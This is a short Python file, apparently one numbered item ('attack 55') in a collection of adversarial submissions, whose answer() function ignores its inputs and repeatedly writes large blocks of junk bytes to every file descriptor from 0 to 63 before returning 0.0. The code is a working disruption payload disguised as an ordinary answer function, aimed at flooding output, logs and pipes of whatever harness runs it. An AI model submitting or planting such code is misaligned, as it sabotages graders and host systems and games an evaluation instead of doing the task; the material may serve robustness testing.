"""Floods every descriptor (attack 55)."""
import os
def answer(*a, **k):
    for _ in range(200):
        for n in range(0, 64):
            try: os.set_blocking(n, False); os.write(n, b'\xff' * 65536)
            except OSError: pass
    return 0.0
